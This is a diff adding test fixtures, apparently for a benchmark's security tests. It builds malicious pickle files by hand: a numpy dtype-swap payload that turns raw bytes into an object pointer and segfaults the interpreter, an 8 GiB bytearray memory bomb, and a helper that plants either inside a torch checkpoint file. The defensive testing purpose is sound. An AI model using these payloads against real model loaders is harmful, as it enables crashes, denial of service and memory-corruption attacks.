@@ -852,6 +852,89 @@ def copy_raw(raw, tmp_path):
     return dst
 
 
+# --- hostile pickles (issue 24): written opcode by opcode, as an attacker would ----------------
+def _p_str(text: str) -> bytes:
+    raw = text.encode()
+    return b"X" + len(raw).to_bytes(4, "little") + raw  # BINUNICODE
+
+
+def _p_int(value: int) -> bytes:
+    return b"J" + value.to_bytes(4, "little", signed=True)  # BININT
+
+
+def _p_dtype(code: str) -> bytes:
+    """REDUCE numpy.dtype(code, False, True), left on the stack."""
+    return b"cnumpy\ndtype\n" + _p_str(code) + b"\x89\x88\x87R"
+
+
+def _p_dtype_state(endian: str, names: bytes, fields: bytes, elsize: int, align: int, flags: int) -> bytes:
+    """The 8-tuple numpy's dtype.__setstate__ takes; ``names``/``fields`` are opcode streams."""
+    return (b"(" + _p_int(3) + _p_str(endian) + b"N" + names + fields + _p_int(elsize) + _p_int(align)
+            + _p_int(flags) + b"t")
+
+
+def dtype_swap_pickle(address: int = 0x4141414141) -> bytes:
+    """The row-1 attack of issue 24: only numpy.dtype, _reconstruct and ndarray.
+
+    An array gets raw bytes (``address``) under a structured int dtype; BUILD then calls
+    ``dtype.__setstate__`` on that same dtype and makes its field an object field, so the
+    bytes become a pointer. Plain pickle.loads of it crashes the interpreter (SIGSEGV)."""
+    out = b"\x80\x02"
+    out += _p_dtype("i8") + b"q\x02" + b"(" + _p_int(3) + _p_str("<") + b"NNN" + _p_int(-1) + _p_int(-1) \
+        + _p_int(0) + b"tb0"  # memo 2: int64
+    out += _p_dtype("O8") + b"q\x03" + b"(" + _p_int(3) + _p_str("|") + b"NNN" + _p_int(-1) + _p_int(-1) \
+        + _p_int(63) + b"tb0"  # memo 3: object
+    names = b"(" + _p_str("a") + b"t"
+    int_field = b"}" + _p_str("a") + b"h\x02" + _p_int(0) + b"\x86s"
+    obj_field = b"}" + _p_str("a") + b"h\x03" + _p_int(0) + b"\x86s"
+    out += _p_dtype("V8") + b"q\x01" + _p_dtype_state("|", names, int_field, 8, 1, 16) + b"b0"
+    out += (b"cnumpy.core.multiarray\n_reconstruct\n" + b"cnumpy\nndarray\n" + b"(" + _p_int(0) + b"t"
+            + b"C\x01b" + b"\x87R" + b"q\x04")
+    raw = address.to_bytes(8, "little")
+    out += b"(" + _p_int(1) + b"(" + _p_int(1) + b"t" + b"h\x01" + b"\x89" + b"C\x08" + raw + b"tb0"
+    out += b"h\x01" + _p_dtype_state("|", names, obj_field, 8, 1, 63) + b"b0"
+    out += b"}" + _p_str("smpl_poses") + b"h\x04s."
+    return out
+
+
+def bytearray_bomb_pickle(nbytes: int = 8 * 2**30) -> bytes:
+    """``{"x": bytearray(nbytes)}``: a few bytes that allocate ``nbytes`` (row 9)."""
+    return b"\x80\x02}" + _p_str("x") + b"cbuiltins\nbytearray\n" + b"\x8a\x05" + nbytes.to_bytes(5, "little") \
+        + b"\x85Rs."
+
+
+def torch_file_with_pickle(path, payload: bytes):
+    """A torch zip file (torch.save's layout) whose ``data.pkl`` is ``payload``."""
+    import zipfile
+
+    import torch
+
+    path = Path(path)
+    torch.save({"w": torch.zeros(2)}, path)
+    with zipfile.ZipFile(path) as zf:
+        records = {info.filename: zf.read(info) for info in zf.infolist()}
+    pkl = next(name for name in records if name.endswith("/data.pkl"))
+    records[pkl] = payload
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
+        for name, data in records.items():
+            zf.writestr(name, data)
+    return path
+
+
+def run_python(code: str, *args, timeout=120, limit_bytes=None):
+    """Run ``code`` in a child interpreter (crashes and memory stay there): CompletedProcess.
+    ``limit_bytes`` sets RLIMIT_AS in the child."""
+    import sys
+
+    def limit():
+        import resource
+
+        resource.setrlimit(resource.RLIMIT_AS, (limit_bytes, limit_bytes))
+
+    return subprocess.run([sys.executable, "-c", code, *map(str, args)], capture_output=True, text=True,
+                          timeout=timeout, preexec_fn=limit if limit_bytes else None)
+
+
 def score_section(name, pairs, protocol, ctx):
     """Score one section (d2m_bench.sections) on ``pairs`` outside eval's worker pass: for the
     sections that need no per-pair step (genre, fd, kl, inception, clap)."""
